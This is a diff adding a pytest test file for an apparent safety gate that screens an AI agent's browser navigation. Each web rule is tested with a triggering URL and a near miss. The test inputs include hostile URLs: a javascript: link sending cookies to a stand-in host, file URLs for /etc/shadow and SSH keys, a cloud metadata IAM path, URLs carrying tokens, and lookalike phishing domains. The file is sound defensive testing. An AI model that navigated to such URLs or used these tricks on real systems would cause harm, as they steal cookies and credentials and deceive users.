@@ -1,0 +1,169 @@
+"""Web rules and URL parsing: each rule with a triggering example and a near miss."""
+
+from __future__ import annotations
+
+import msgspec
+import pytest
+
+from gate import SafetyGate
+from gate.model import Decision, Observation, action_from_dict
+from gate.policy import default_policy
+from gate.rules import web
+from gate.rules.base import Context
+from gate.urls import host_matches, ip_of, is_loopback, parse_host, split_url
+
+
+def policy_with(**web_fields):
+    p = default_policy()
+    return msgspec.structs.replace(p, web=msgspec.structs.replace(p.web, **web_fields))
+
+
+def fired(url: str, policy=None, **extra) -> set[str]:
+    ctx = Context(action_from_dict({"type": "navigate", "url": url, **extra}), policy=policy or default_policy())
+    return {h.rule for r in web.RULES if (h := r(ctx)) is not None}
+
+
+# -- parsing ------------------------------------------------------------------------------------
+
+
+def test_host_is_read_as_a_browser_reads_it():
+    assert parse_host("https://user@evil.com@good.com/x") == "good.com"
+    assert parse_host("https://good.com\\@evil.com/") == "good.com"  # backslash is a slash in http(s)
+    assert parse_host("https:evil.com/path") == "evil.com"
+    assert parse_host("HTTPS://WWW.Example.COM./a") == "www.example.com"
+    assert parse_host("https://ex%61mple.com") == "example.com"
+    assert parse_host("https://ｅｘａｍｐｌｅ.com") == "example.com"  # full-width letters: NFKC
+    assert parse_host("localhost:8000/api") == "localhost"
+    assert parse_host("javascript:alert(1)") is None
+
+
+def test_homoglyph_hosts_are_not_folded_into_the_latin_name():
+    host = parse_host("https://pаypal.com/")  # Cyrillic а
+    assert host is not None and host.startswith("xn--") and host != "paypal.com"
+    assert not host_matches(host, "paypal.com")
+
+
+def test_host_matching_is_exact_or_dot_suffix():
+    assert host_matches("localhost", "localhost")
+    assert not host_matches("evil-localhost.com", "localhost")
+    assert host_matches("a.example.com", "example.com")
+    assert not host_matches("badexample.com", "example.com")
+    assert not is_loopback("evil-localhost.com") and is_loopback("api.localhost")
+
+
+def test_legacy_ip_forms_are_read_as_ips():
+    assert str(ip_of("2130706433")) == "127.0.0.1"
+    assert str(ip_of("0x7f.1")) == "127.0.0.1"
+    assert str(ip_of("0177.0.0.1")) == "127.0.0.1"
+    assert ip_of("example.com") is None and ip_of("1.2.3.4.5") is None
+
+
+def test_split_url_reports_userinfo_and_scheme():
+    parts = split_url("https://admin:hunter2@intranet.example/")
+    assert parts is not None and parts.userinfo == "admin:hunter2" and parts.host == "intranet.example"
+    assert split_url("https://example.com:99999/") is None  # bad port
+
+
+# -- rules --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("url", ["https://en.wikipedia.org/wiki/Main_Page", "https://github.com/a/b",
+                                 "https://www.linkedin.com/feed/", "https://academicpages.github.io/",
+                                 "https://www.bbc.co.uk/news", "http://localhost:5173/", "http://[::1]:8080/",
+                                 "https://apple.stackexchange.com/questions", "https://münchen.de/",
+                                 "about:blank", "file:///home/user/report.html", "mailto:me@example.com",
+                                 "https://docs.python.org/3/library/os.html?highlight=path"])
+def test_ordinary_urls_are_allowed(url):
+    assert fired(url) == set()
+    assert SafetyGate().assess(action_from_dict({"type": "navigate", "url": url})).decision is Decision.ALLOW
+
+
+def test_blocked_origins_match_exact_or_subdomain():
+    policy = policy_with(blocked_origins=["evil.example"])
+    assert "block.web.blocked-origin" in fired("https://cdn.evil.example/x", policy)
+    assert "block.web.blocked-origin" not in fired("https://notevil.example/x", policy)
+    # any action on a page of a blocked origin
+    ctx = Context(action_from_dict({"type": "click", "x": 1, "y": 1}), Observation(url="https://evil.example/"),
+                  policy)
+    assert web.blocked_origin(ctx) is not None
+
+
+def test_allowed_origins_confirm_anything_else():
+    policy = policy_with(allowed_origins=["localhost", "example.com"])
+    assert "confirm.web.origin-not-allowed" in fired("https://evil-localhost.com/", policy)
+    assert "confirm.web.origin-not-allowed" in fired("https://example.com@evil.net/", policy)
+    assert "confirm.web.origin-not-allowed" in fired("data:text/html,hi", policy)
+    assert "confirm.web.origin-not-allowed" not in fired("http://localhost:3000/", policy)
+    assert "confirm.web.origin-not-allowed" not in fired("https://docs.example.com/", policy)
+
+
+def test_script_data_and_handler_schemes():
+    assert "block.web.script-url" in fired("javascript:fetch('//x?'+document.cookie)")
+    assert "block.web.script-url" in fired("  JaVaScRiPt:alert(1)")
+    assert "block.web.script-url" in fired("java\tscript:alert(1)")  # browsers drop tabs
+    assert "confirm.web.data-url" in fired("data:text/html;base64,PHNjcmlwdD4=")
+    assert "confirm.web.external-handler" in fired("ms-settings:windowsdefender")
+    assert "confirm.web.external-handler" in fired("chrome://settings/passwords")
+    assert not fired("https://example.com/javascript:notreally")
+
+
+def test_file_urls_follow_the_file_rules():
+    assert "block.web.file-url-credential" in fired("file:///etc/shadow")
+    assert "block.web.file-url-credential" in fired("file:///home/u/.ssh/id_rsa")
+    assert "confirm.web.file-url" in fired("file:///home/u/project/.env")
+    assert "confirm.web.file-url" in fired("file://fileserver/share/doc.html")
+    assert fired("file:///home/u/report.html") == set()
+
+
+def test_credentials_in_url_and_the_at_trick():
+    assert "confirm.web.credentials-in-url" in fired("https://user:pass@example.com/")
+    assert "confirm.web.credentials-in-url" in fired("https://github.com@evil.example/")
+    assert "confirm.web.credentials-in-url" in fired("https://user@evil.com@good.com/")
+    assert "confirm.web.credentials-in-url" not in fired("https://example.com/@user")
+
+
+def test_secrets_in_urls():
+    assert "block.web.secret-in-url" in fired("https://x.example/c?d=AKIAABCDEFGHIJKLMNOP")
+    assert "block.web.secret-in-url" in fired("https://x.example/c?t=ghp_abcdefghijklmnopqrstuvwxyz0123")
+    assert "confirm.web.secret-param" in fired("https://x.example/collect?api_key=abc123")
+    assert "confirm.web.secret-param" in fired("https://x.example/#access_token=abc")
+    assert "confirm.web.secret-param" not in fired("https://x.example/search?q=password+reset")
+    assert "block.web.password-over-http" in fired("http://collector.example/?pwd=letmein")
+    assert "block.web.password-over-http" not in fired("https://collector.example/?pwd=letmein")
+    assert "block.web.password-over-http" not in fired("http://192.168.0.10/login?pass=admin")
+
+
+def test_ip_hosts():
+    assert "confirm.web.ip-host" in fired("http://203.0.113.7/payload")
+    assert "confirm.web.ip-host" in fired("http://192.168.1.1/admin")
+    assert "confirm.web.ip-host" in fired("http://2130706433/")  # loopback, but disguised
+    assert "confirm.web.ip-host" not in fired("http://127.0.0.1:8000/")
+    assert "block.web.metadata-endpoint" in fired("http://169.254.169.254/latest/meta-data/iam/")
+    assert "block.web.metadata-endpoint" not in fired("http://169.254.1.1/")
+
+
+def test_lookalike_hosts():
+    for url in ("https://pаypal.com/", "https://xn--80ak6aa92e.com/", "https://paypa1.com/signin",
+                "https://rnicrosoft.com/", "https://g00gle.com/", "https://paypal.com.account-check.net/",
+                "https://secure-paypal.com/", "https://githuub.com/"):
+        assert "confirm.web.lookalike-host" in fired(url), url
+    for url in ("https://www.paypal.com/", "https://accounts.google.com/", "https://drive.google.co.uk/",
+                "https://apple.stackexchange.com/", "https://example.com/", "https://münchen.de/"):
+        assert "confirm.web.lookalike-host" not in fired(url), url
+    assert "confirm.web.lookalike-host" not in fired("https://paypa1.com/", policy_with(brands=[]))
+
+
+def test_downloads():
+    assert "confirm.web.executable-download" in fired("https://dl.example.com/tool/Setup.EXE")
+    assert "confirm.web.executable-download" in fired("https://example.com/install.sh")
+    assert "confirm.web.executable-download" in fired("https://example.com/get?file=app.apk")
+    assert "confirm.web.executable-download" not in fired("https://example.com/docs/install.html")
+    assert "confirm.web.executable-download" not in fired("https://example.com/sh")
+    assert "confirm.web.direct-download" in fired("https://files.example.com/uc?id=1&export=download")
+    assert "confirm.web.direct-download" not in fired("https://example.com/downloads/")
+
+
+def test_unparseable_urls_fail_closed():
+    assert "block.web.unparseable-url" in fired("https://[::1/")
+    assert "block.web.unparseable-url" in fired("https://")
+    assert "block.web.unparseable-url" not in fired("https://example.com")
